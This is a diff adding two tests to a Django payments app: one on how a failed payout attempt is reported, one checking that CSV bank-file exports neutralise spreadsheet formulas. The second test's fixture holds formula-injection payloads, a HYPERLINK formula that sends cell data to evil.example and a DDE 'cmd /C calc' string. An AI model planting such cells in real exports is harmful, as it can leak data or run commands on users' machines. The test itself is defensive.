@@ -17,6 +17,7 @@ from django.urls import reverse
 
 from organizations.roles import Role
 from payments.models import PaymentRun, PaymentSchedule, Payout, PayoutReason, PayoutState
+from payments.runs import providers
 from payments.runs.schedule import schedule_for
 from tests.conftest import World, confirm_and_launch, login_client, make_payout
 from tests.factories import member
@@ -144,6 +145,24 @@ def test_an_admin_starts_a_run_that_pays_the_due_payouts(due: World) -> None:
     assert "Completed" in listing and "2 paid" in listing
 
 
+def test_the_run_page_says_what_a_failed_attempt_means(due: World) -> None:
+    refused = Payout.objects.order_by("pk").first()
+    providers.sandbox_fail(organization_id=due.cast.org.pk, payout_id=refused.pk)
+    admin = client(due, Role.ADMIN)
+    response = post(admin, page_url("payment_run_list"))
+    run = PaymentRun.objects.get()
+    assert run.state == PaymentRun.State.COMPLETED and run.failed_count == 1
+    detail = admin.get(response["Location"]).content.decode()
+    assert "1 attempt failed: that payout goes back to earned and is retried in the next run" in (
+        " ".join(detail.split())
+    )
+    refused.refresh_from_db()
+    assert refused.state == PayoutState.EARNED  # what the page says is what happened
+    clean = PaymentRun.objects.filter(pk=run.pk)
+    clean.update(failed_count=0)
+    assert "attempt failed" not in admin.get(response["Location"]).content.decode()
+
+
 def test_a_second_run_while_one_is_open_is_a_409(due: World) -> None:
     run = open_run(due)
     admin = client(due, Role.ADMIN)
@@ -214,6 +233,35 @@ def test_a_csv_export_run_is_confirmed_and_its_file_downloaded(due: World) -> No
     run.refresh_from_db()
     assert run.state == PaymentRun.State.COMPLETED
     assert set(Payout.objects.values_list("state", flat=True)) == {PayoutState.PAID}
+
+
+def test_a_bank_file_stored_before_the_shared_writer_downloads_without_formulas(
+    due: World,
+) -> None:
+    """Runs exported before the CSV writer neutralised cells kept the raw names: the download
+    neutralises them too; a plain (negative) number keeps its sign."""
+    raw = (
+        "payout_id,creator,account_name,amount\r\n"
+        '7,"=HYPERLINK(""http://evil.example/?x=""&F3,""x"")",+1+cmd|\' /C calc\'!A0,-12.50\r\n'
+    )
+    run = PaymentRun.objects.create(
+        organization=due.cast.org,
+        state=PaymentRun.State.COMPLETED,
+        trigger=PaymentRun.Trigger.MANUAL,
+        provider="csv_export",
+        export_file=raw,
+    )
+    response = client(due, Role.ADMIN).get(page_url("payment_run_export", pk=run.pk))
+    assert response["Content-Disposition"] == (
+        f'attachment; filename="payment-run-{run.pk}-export.csv"'
+    )
+    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    assert rows[1] == [
+        "7",
+        '\'=HYPERLINK("http://evil.example/?x="&F3,"x")',
+        "'+1+cmd|' /C calc'!A0",
+        "-12.50",
+    ]
 
 
 # --- progress ---
